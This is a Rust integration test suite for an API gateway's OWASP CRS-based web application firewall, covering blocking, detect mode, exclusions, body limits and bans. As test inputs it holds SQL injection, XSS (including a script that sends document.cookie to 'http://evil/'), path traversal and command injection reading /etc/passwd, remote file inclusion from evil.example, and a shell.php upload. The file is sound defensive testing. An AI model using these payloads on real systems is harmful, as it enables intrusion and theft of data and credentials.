//! `type: waf` through real sockets, on the OWASP Core Rule Set Debian's
//! `modsecurity-crs` installs (scripts/test.sh): attacks in each inspected place are
//! refused with problem+json and an incident id, ordinary API traffic is served, detect
//! mode lets requests on and logs them, exclusions take targets and rules out per
//! route, oversized bodies are inspected by prefix or refused, and blocks ban.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::support::*;
use serde_json::Value;
use std::time::Duration;

const POLICIES: &str = r#"
policies:
  waf:
    type: waf
    body_inspection_limit: 4KiB
    max_arguments: 20
    exclusions:
      - { routes: [search], targets: ["arg:q"] }
      - { routes: [sql-console], rules: ["942000-942999"] }
  watch:
    type: waf
    mode: detect
    max_arguments: 20
  strict:
    type: waf
    body_inspection_limit: 1KiB
    oversize_body: reject
protection:
  exempt: [127.0.0.1/32]
  ban: { after: 3, within: 1m, duration: 1m, triggers: [waf] }
access_log: stdout
"#;

/// A gateway with the WAF on every route but `watched` (detect mode) and `strict`.
fn gateway(backend: &Backend) -> (GatewayProcess, String, String) {
    let (port, admin) = (free_port(), free_port());
    let yaml = format!(
        r#"
listeners:
  - {{ name: edge, address: "127.0.0.1:{port}" }}
admin: {{ address: "127.0.0.1:{admin}" }}
reload: {{ watch: false }}
upstreams:
  u: {{ targets: [{{ address: "{}" }}] }}
routes:
  - {{ name: search, match: {{ path: {{ type: prefix, value: /search }} }}, policies: [waf], upstream: u }}
  - {{ name: sql-console, match: {{ path: {{ type: prefix, value: /console }} }}, policies: [waf], upstream: u }}
  - {{ name: watched, match: {{ path: {{ type: prefix, value: /watched }} }}, policies: [watch], upstream: u }}
  - {{ name: strict, match: {{ path: {{ type: prefix, value: /strict }} }}, policies: [strict], upstream: u, max_body_size: 1MiB }}
  - {{ name: api, policies: [waf], upstream: u, max_body_size: 1MiB }}
{POLICIES}"#,
        backend.addr
    );
    let g = GatewayProcess::start(BIN, &yaml, &[port, admin]);
    (
        g,
        format!("http://127.0.0.1:{port}"),
        format!("http://127.0.0.1:{admin}"),
    )
}

const UA: (&str, &str) = (
    "user-agent",
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
);
const JSON: (&str, &str) = ("content-type", "application/json");
const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");

/// A refusal of the WAF: 403 problem+json with request and incident ids, echoing
/// nothing of the request and naming no rule. Yields the incident id.
fn assert_refused(r: &Reply, sent: &str) -> String {
    assert_eq!(r.status, 403, "{sent}: {}", r.body_text());
    assert_eq!(
        r.headers.get("content-type").unwrap(),
        "application/problem+json"
    );
    let p = r.json();
    assert!(p["request_id"].is_string(), "{p}");
    let incident = p["incident_id"]
        .as_str()
        .unwrap_or_else(|| panic!("{sent}: {p}"));
    assert_eq!(incident.len(), 16, "{p}");
    // The random ids are hex: they may hold "942" by chance, so they are left out.
    let request_id = p["request_id"].as_str().unwrap();
    let text = r.body_text().replace(request_id, "").replace(incident, "");
    assert!(!text.contains("942") && !text.contains("script") && !text.contains("passwd"));
    incident.to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_each_place_are_refused_and_api_traffic_is_served() {
    let a = Backend::start("a", Kind::Echo).await;
    let (g, base, admin) = gateway(&a);
    let c = Client::new();
    let mut incidents = Vec::new();
    // Query, path, header, cookie.
    for (path, headers) in [
        ("/api/items?id=1%27%20OR%20%271%27=%271", vec![UA]),
        ("/api/items?q=%3Cscript%3Ealert(1)%3C/script%3E", vec![UA]),
        ("/api/files?name=../../../../etc/passwd", vec![UA]),
        ("/api/run?cmd=;cat%20/etc/passwd", vec![UA]),
        ("/api/x.php?u=http://evil.example/shell.txt?", vec![UA]),
        (
            "/api/items",
            vec![UA, ("cookie", "sid=1' UNION SELECT password FROM users--")],
        ),
        (
            "/api/items",
            vec![
                UA,
                ("referer", "javascript:alert(document.cookie)//<script>"),
            ],
        ),
    ] {
        let r = send(&c, "GET", &format!("{base}{path}"), &headers).await;
        incidents.push(assert_refused(&r, path));
    }
    // JSON, form, multipart and XML bodies.
    for (ct, body) in [
        (JSON, r#"{"user":{"name":"x' OR 1=1--"},"ids":[1,2]}"#.to_string()),
        (JSON, r#"{"bio":"<script>document.location='http://evil/'+document.cookie</script>"}"#.to_string()),
        (FORM, "user=admin%27--&pass=x".to_string()),
        (
            ("content-type", "multipart/form-data; boundary=b1"),
            "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b1--\r\n".to_string(),
        ),
        (
            ("content-type", "text/xml"),
            "<order><note>1 UNION SELECT password FROM users</note></order>".to_string(),
        ),
    ] {
        let r = send_body(&c, "POST", &format!("{base}/api/orders"), &[UA, ct], &body).await;
        assert_refused(&r, &body);
    }
    // Ordinary API traffic: quotes and apostrophes in JSON, every method, forms and
    // uploads.
    let ok = [
        (
            "POST",
            JSON,
            r#"{"name":"Ann O'Neil","note":"say \"hi\", please","qty":2}"#,
        ),
        (
            "PUT",
            JSON,
            r#"{"street":"12 Baker St","city":"London","tags":["a","b"]}"#,
        ),
        ("PATCH", JSON, r#"{"status":"shipped"}"#),
        (
            "POST",
            FORM,
            "name=O%27Brien&city=Dublin&comment=it%27s+fine",
        ),
        (
            "POST",
            ("content-type", "multipart/form-data; boundary=b2"),
            "--b2\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday\r\n--b2\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nJFIFdata\r\n--b2--\r\n",
        ),
    ];
    for (method, ct, body) in ok {
        let r = send_body(&c, method, &format!("{base}/api/orders/7"), &[UA, ct], body).await;
        assert_eq!(r.status, 200, "{method} {body}: {}", r.body_text());
    }
    for (method, path) in [
        ("GET", "/api/users/42/orders?sort=-date&limit=20"),
        ("GET", "/api/search?name=O%27Brien"),
        ("DELETE", "/api/orders/7"),
        ("OPTIONS", "/api/orders"),
    ] {
        let r = send(&c, method, &format!("{base}{path}"), &[UA]).await;
        assert_eq!(r.status, 200, "{method} {path}: {}", r.body_text());
    }
    // A method outside allowed_methods (CRS rule 911100).
    let r = send(&c, "PROPFIND", &format!("{base}/api/orders"), &[UA]).await;
    assert_refused(&r, "PROPFIND");
    // The access log carries the verdict of each refusal.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let out = g.stdout_text();
    let refused: Vec<Value> = out
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["waf"].is_object())
        .collect();
    assert!(refused.len() >= 13, "{out}");
    let sqli = refused
        .iter()
        .find(|v| v["query"] == "id=1%27%20OR%20%271%27=%271")
        .unwrap();
    let waf = &sqli["waf"];
    assert_eq!(waf["policy"], "waf");
    assert_eq!(waf["action"], "blocked");
    assert!(waf["score"].as_i64().unwrap() >= 5);
    assert!(waf["attacks"].as_array().unwrap().contains(&"sqli".into()));
    assert!(!waf["rule_ids"].as_array().unwrap().is_empty());
    assert_eq!(waf["incident_id"], incidents[0].as_str());
    // The incident behind the first refusal: rules, targets, matched data, client, route.
    let r = send(
        &c,
        "GET",
        &format!("{admin}/admin/protection/incidents/{}", incidents[0]),
        &[],
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    let i = r.json();
    assert_eq!(
        (i["client"].as_str(), i["route"].as_str()),
        (Some("127.0.0.1"), Some("api"))
    );
    assert_eq!(
        (i["action"].as_str(), i["policy"].as_str()),
        (Some("blocked"), Some("waf"))
    );
    let rules = i["rules"].as_array().unwrap();
    let sqli = rules.iter().find(|m| m["attack"] == "sqli").unwrap();
    assert_eq!(sqli["target"], "ARGS:id");
    let data = sqli["data"].as_str().unwrap();
    assert!(!data.is_empty() && data.len() <= 64, "{data}");
    let r = send(
        &c,
        "GET",
        &format!("{admin}/admin/protection/incidents/0000000000000000"),
        &[],
    )
    .await;
    assert_eq!(r.status, 404);
    // The policy's counts.
    let r = send(&c, "GET", &format!("{admin}/admin/protection/waf"), &[]).await;
    let w = &r.json()["policies"]["waf"];
    assert_eq!(w["mode"], "block");
    assert!(w["blocked"].as_u64().unwrap() >= 13, "{w}");
    assert!(
        w["inspected"].as_u64().unwrap() > w["blocked"].as_u64().unwrap(),
        "{w}"
    );
    let counted = w["rules"].as_object().unwrap();
    assert!(
        counted
            .values()
            .any(|r| r["attack"] == "xss" && r["hits"].as_u64() >= Some(2)),
        "{w}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_exclusions_and_body_limits() {
    let a = Backend::start("a", Kind::Echo).await;
    let (g, base, _admin) = gateway(&a);
    let c = Client::new();
    let sqli = "1%27%20UNION%20SELECT%20password%20FROM%20users--";
    // Detect: served, logged as detected.
    let r = send(&c, "GET", &format!("{base}/watched?id={sqli}"), &[UA]).await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    // Exclusions: `q` is not read on `search` (but `id` is); SQL rules do not run on
    // the console (but XSS ones do); elsewhere both are refused.
    let r = send(&c, "GET", &format!("{base}/search?q={sqli}"), &[UA]).await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    let r = send(&c, "GET", &format!("{base}/search?id={sqli}"), &[UA]).await;
    assert_refused(&r, "search id");
    let r = send(&c, "GET", &format!("{base}/console?stmt={sqli}"), &[UA]).await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    let xss = "%3Cscript%3Ealert(1)%3C/script%3E";
    let r = send(&c, "GET", &format!("{base}/console?stmt={xss}"), &[UA]).await;
    assert_refused(&r, "console xss");
    let r = send(&c, "GET", &format!("{base}/api?q={sqli}"), &[UA]).await;
    assert_refused(&r, "api q");
    // inspect_prefix: an attack in the first 4 KiB is refused, one beyond is not read,
    // and the whole body goes upstream.
    let pad = "a".repeat(8 * 1024);
    let early = format!("note=x%27+UNION+SELECT+password+FROM+users--&pad={pad}");
    let r = send_body(
        &c,
        "POST",
        &format!("{base}/api/notes"),
        &[UA, FORM],
        &early,
    )
    .await;
    assert_refused(&r, "early attack");
    let late = format!("pad={pad}&note=x%27+UNION+SELECT+password+FROM+users--");
    let r = send_body(&c, "POST", &format!("{base}/api/notes"), &[UA, FORM], &late).await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    assert_eq!(r.json()["body_len"], late.len());
    // reject: a body over the limit is refused before the upstream.
    let r = send_body(&c, "POST", &format!("{base}/strict"), &[UA, FORM], &late).await;
    assert_eq!(r.status, 413, "{}", r.body_text());
    // max_arguments (20): query and body count together; one more is refused with
    // 400 before the rules run (a hostile body of a thousand `a=1&` too); in detect
    // mode the request goes on, the first 20 inspected.
    let args = |n: usize| {
        (0..n)
            .map(|i| format!("a{i}=1"))
            .collect::<Vec<_>>()
            .join("&")
    };
    let r = send_body(
        &c,
        "POST",
        &format!("{base}/api/x?{}", args(5)),
        &[UA, FORM],
        &args(15),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    for body in [args(16), "a=1&".repeat(1000)] {
        let r = send_body(
            &c,
            "POST",
            &format!("{base}/api/x?{}", args(5)),
            &[UA, FORM],
            &body,
        )
        .await;
        assert_eq!(r.status, 400, "{}", r.body_text());
        assert_eq!(
            r.headers.get("content-type").unwrap(),
            "application/problem+json"
        );
        // A random request id may hold "a1"; an echo would hold the argument itself.
        assert!(!r.body_text().contains("a1=1"), "nothing echoed");
    }
    let late_attack = format!("{}&id={sqli}", args(20));
    let r = send(
        &c,
        "GET",
        &format!("{base}/watched/many?{late_attack}"),
        &[UA],
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body_text());
    tokio::time::sleep(Duration::from_millis(300)).await;
    let out = g.stdout_text();
    let detected = out
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|v| v["route"] == "watched")
        .unwrap();
    assert_eq!(detected["status"], 200);
    assert_eq!(detected["waf"]["action"], "detected");
    assert_eq!(detected["waf"]["policy"], "watch");
    let lines: Vec<Value> = out
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .collect();
    let many = lines
        .iter()
        .find(|v| v["route"] == "watched" && v["waf"]["too_many_arguments"] == true)
        .expect("the detect-mode request over the limit is logged");
    assert_eq!(many["status"], 200);
    // (The numeric Host still scores 920350.)
    let sqli_rules = many["waf"]["rule_ids"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|id| (942000..943000).contains(&id.as_u64().unwrap()))
        .count();
    assert_eq!(
        sqli_rules, 0,
        "the attack past the limit was not inspected: {many}"
    );
    let refused = lines
        .iter()
        .filter(|v| v["status"] == 400 && v["waf"]["too_many_arguments"] == true)
        .count();
    assert_eq!(refused, 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn waf_blocks_are_offences_that_ban_while_others_are_served() {
    let a = Backend::start("a", Kind::Echo).await;
    let (_g, base, admin) = gateway(&a);
    let addr = base.trim_start_matches("http://").to_string();
    let c = Client::new();
    let attack = "GET /api?id=1%27%20OR%20%271%27=%271 HTTP/1.1\r\nhost: t\r\nuser-agent: Mozilla/5.0\r\n\r\n";
    let plain = "GET /api/items HTTP/1.1\r\nhost: t\r\nuser-agent: Mozilla/5.0\r\n\r\n";
    let mut s = connect_from("127.0.0.2", &addr).await;
    for _ in 0..3 {
        let got = ask(&mut s, attack.as_bytes()).await;
        assert!(got.starts_with("HTTP/1.1 403"), "{got}");
    }
    // Three blocks in a minute: banned, whatever it sends.
    let mut s = connect_from("127.0.0.2", &addr).await;
    let got = ask(&mut s, plain.as_bytes()).await;
    assert!(
        got.starts_with("HTTP/1.1 403") && got.contains("retry-after"),
        "{got}"
    );
    let bans = send(&c, "GET", &format!("{admin}/admin/protection/bans"), &[]).await;
    let bans = bans.json();
    let ban = bans["bans"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["ip"] == "127.0.0.2")
        .unwrap();
    assert_eq!(ban["reason"], "waf");
    // The Top-N attackers show what it tried.
    let r = send(
        &c,
        "GET",
        &format!("{admin}/admin/top/attackers?limit=5&window=5m"),
        &[],
    )
    .await;
    let top = r.json();
    let item = top["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["client_ip"] == "127.0.0.2")
        .unwrap_or_else(|| panic!("{top}"));
    assert_eq!(item["attacks"]["sqli"], 3, "{item}");
    assert!(
        item["rules"]
            .as_object()
            .unwrap()
            .values()
            .all(|n| n.as_u64() >= Some(1))
    );
    assert!(item["banned_until"].is_u64());
    // Another address is served.
    let mut s = connect_from("127.0.0.3", &addr).await;
    let got = ask(&mut s, plain.as_bytes()).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
}
